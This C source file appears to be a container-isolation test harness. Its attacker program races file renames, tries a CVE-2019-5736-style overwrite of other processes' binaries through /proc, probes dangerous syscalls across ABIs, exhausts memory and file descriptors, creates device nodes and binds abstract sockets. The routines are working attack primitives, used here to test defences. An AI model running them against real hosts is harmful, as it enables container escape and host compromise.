/* SPDX-License-Identifier: Apache-2.0
 * What the attack scenarios (E3-*.sh) run inside of a container. Static, because it runs in any root.
 *
 *   attacker exchange A B [MICROSECONDS]   exchange two names for ever, with a pause between
 *   attacker overwrite SECONDS             open the program of every process for writing, by every way there is; tells what worked
 *   attacker calls                         try system calls that a container has no business with, by each ABI: NAME ERRNO lines
 *   attacker memory MIB | files            take memory, or open files until refused (then tell how many)
 *   attacker device b|c MAJOR MINOR        make that node and read from it: tells the errno's name, or OPENED
 *   attacker abstract NAME                 listen on an abstract socket */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static _Noreturn void exchange(const char *a, const char *b, unsigned pause_us) {
  for (;;) {
    syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
    if (pause_us) usleep(pause_us);
  }
}

/* CVE-2019-5736: hold the program open for reading, then ask for the same file for writing until it no longer runs. */
static int overwrite(int seconds) {
  unsigned long tried = 0, wrote = 0;
  char path[64], name[256], own[256] = "";
  ssize_t got = readlink("/proc/self/exe", own, sizeof own - 1);
  own[got > 0 ? got : 0] = 0;
  for (time_t end = time(NULL) + seconds; time(NULL) < end;)
    for (int pid = 1; pid < 400; pid++) {
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int held = open(path, O_RDONLY | O_CLOEXEC);
      if (held < 0) continue;
      got = readlink(path, name, sizeof name - 1);
      name[got > 0 ? got : 0] = 0;
      if (got > 0 && (!strcmp(name, own) || !strcmp(name, "/bin/busybox"))) {
        close(held);
        continue;
      }
      tried++;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held);
      for (int i = 0; i < 2000; i++) {
        int writing = open(path, O_WRONLY | (i % 2 ? O_TRUNC : 0));
        if (writing >= 0 && (write(writing, "#!/bin/attacker\n", 16) > 0 || !ftruncate(writing, 0))) {
          wrote++;
          printf("WROTE %s\n", name);
        }
        if (writing >= 0) close(writing);
      }
      close(held);
    }
  printf("seen %lu, written %lu\n", tried, wrote);
  return wrote != 0;
}

/* In a child, so that a filter that kills shows as well. */
static void call(const char *name, long number, long a, long b, long c, long d) {
  fflush(stdout);
  pid_t pid = fork();
  if (!pid) {
    long result = syscall(number, a, b, c, d, 0L, 0L);
    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) ? strerrorname_np(errno) : "?" : "WORKED");
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  if (WIFSIGNALED(status)) printf("%s SIGNAL %d\n", name, WTERMSIG(status));
}

#ifdef __x86_64__
/* The 32-bit door: socketcall and socket through int 0x80. Pointers must lie below 4 GiB. */
static void old_call(const char *name, int number, int a, int b, int c) {
  fflush(stdout);
  pid_t pid = fork();
  if (!pid) {
    int result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    printf("%s %s\n", name, result < 0 ? strerrorname_np(-result) ? strerrorname_np(-result) : "?" : "WORKED");
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  if (WIFSIGNALED(status)) printf("%s SIGNAL %d\n", name, WTERMSIG(status));
}
#endif

static int calls(void) {
  static char zeros[4096];
  long page = (long)zeros;
  call("socket-alg", SYS_socket, 38, SOCK_SEQPACKET, 0, 0);
  call("socket-vsock", SYS_socket, 40, SOCK_STREAM, 0, 0);
  call("io_uring_setup", 425, 4, page, 0, 0);
  call("bpf", SYS_bpf, 5, page, 72, 0);
  call("keyctl", SYS_keyctl, 0, -1, 1, 0);
  call("add_key", SYS_add_key, (long)"user", (long)"k", page, 4);
  call("request_key", SYS_request_key, (long)"user", (long)"k", page, 0);
  call("userfaultfd", SYS_userfaultfd, 0, 0, 0, 0);
  call("unshare-user", SYS_unshare, 0x10000000, 0, 0, 0);
  call("unshare-mount", SYS_unshare, 0x20000, 0, 0, 0);
  call("clone3", 435, page, 88, 0, 0);
  call("mount", SYS_mount, (long)"tmpfs", (long)"/tmp", (long)"tmpfs", 0);
  call("umount2", SYS_umount2, (long)"/proc/sys", 2, 0, 0);
  call("pivot_root", SYS_pivot_root, (long)"/", (long)"/tmp", 0, 0);
  call("fsopen", 430, (long)"tmpfs", 0, 0, 0);
  call("open_tree", 428, -100, (long)"/", 1, 0);
  call("mount_setattr", 442, -100, (long)"/", 0, page);
  call("open_by_handle_at", SYS_open_by_handle_at, -100, page, 0, 0);
  call("kexec_load", SYS_kexec_load, 0, 0, 0, 0);
  call("kexec_file_load", 320, -1, -1, 0, 0);
  call("init_module", SYS_init_module, page, 16, (long)"", 0);
  call("perf_event_open", SYS_perf_event_open, page, 0, -1, -1);
  call("reboot", SYS_reboot, 0x12345678, 0, 0, 0);
  call("swapon", SYS_swapon, (long)"/none", 0, 0, 0);
  call("settimeofday", SYS_settimeofday, page, 0, 0, 0);
  call("sethostname", SYS_sethostname, (long)"pwned", 5, 0, 0);
  call("setns", SYS_setns, 0, 0, 0, 0);
  call("quotactl", SYS_quotactl, 0, 0, 0, 0);
  call("acct", SYS_acct, (long)"/tmp/acct", 0, 0, 0);
  call("syslog", SYS_syslog, 3, page, 4096, 0);
  call("process_vm_readv", SYS_process_vm_readv, 1, page, 1, 0);
#ifdef __x86_64__
  call("ioperm", SYS_ioperm, 0x80, 1, 1, 0);
  call("iopl", SYS_iopl, 3, 0, 0, 0);
  /* x32: the same numbers with bit 30 */
  call("x32-getpid", 0x40000000 | SYS_getpid, 0, 0, 0, 0);
  call("x32-socket-alg", 0x40000000 | SYS_socket, 38, SOCK_SEQPACKET, 0, 0);
  call("x32-unshare-user", 0x40000000 | SYS_unshare, 0x10000000, 0, 0, 0);
  call("x32-mount", 0x40000000 | SYS_mount, (long)"tmpfs", (long)"/tmp", (long)"tmpfs", 0);
  int *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return 1;
  low[0] = 38, low[1] = SOCK_SEQPACKET, low[2] = 0;
  old_call("i386-socketcall-alg", 102, 1, (int)(long)low, 0);
  old_call("i386-socket-alg", 359, 38, SOCK_SEQPACKET, 0);
  low[0] = 40, low[1] = SOCK_STREAM;
  old_call("i386-socketcall-vsock", 102, 1, (int)(long)low, 0);
  old_call("i386-unshare-user", 310, 0x10000000, 0, 0);
  strcpy((char *)(low + 8), "tmpfs"), strcpy((char *)(low + 16), "/tmp");
  old_call("i386-mount", 21, (int)(long)(low + 8), (int)(long)(low + 16), (int)(long)(low + 8));
  old_call("i386-bpf", 357, 5, (int)(long)low, 72);
  old_call("i386-keyctl", 288, 0, -1, 1);
#endif
  return 0;
}

static int memory(long mib) {
  for (long i = 0; i < mib; i++) {
    char *part = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (part == MAP_FAILED) return printf("refused after %ld MiB\n", i), 3;
    memset(part, 1, 1 << 20);
  }
  return printf("took %ld MiB\n", mib), 0;
}

static int files(void) {
  int count = 0;
  while (count < 1000000 && open("/dev/null", O_RDONLY) >= 0) count++;
  return printf("%d\n", count), 0;
}

static int device(const char *type, unsigned major_number, unsigned minor_number) {
  char byte;
  mode_t mode = 0600 | (*type == 'b' ? S_IFBLK : S_IFCHR);
  if (mknod("/attack-node", mode, makedev(major_number, minor_number))) return printf("mknod %s\n", strerrorname_np(errno)), 0;
  int fd = open("/attack-node", O_RDONLY | O_NONBLOCK);
  if (fd < 0) printf("open %s\n", strerrorname_np(errno));
  else printf("OPENED %zd\n", read(fd, &byte, 1));
  unlink("/attack-node");
  return 0;
}

static int abstract(const char *name) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(fd, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) || listen(fd, 1)) return 1;
  return pause();
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *what = argc > 1 ? argv[1] : "";
  if (!strcmp(what, "exchange") && argc > 3) exchange(argv[2], argv[3], argc > 4 ? (unsigned)atoi(argv[4]) : 0);
  if (!strcmp(what, "overwrite") && argc > 2) return overwrite(atoi(argv[2]));
  if (!strcmp(what, "calls")) return calls();
  if (!strcmp(what, "memory") && argc > 2) return memory(atol(argv[2]));
  if (!strcmp(what, "files")) return files();
  if (!strcmp(what, "device") && argc > 4) return device(argv[2], (unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
  if (!strcmp(what, "abstract") && argc > 2) return abstract(argv[2]);
  fprintf(stderr, "attacker: see the top of attacker.c\n");
  return 99;
}
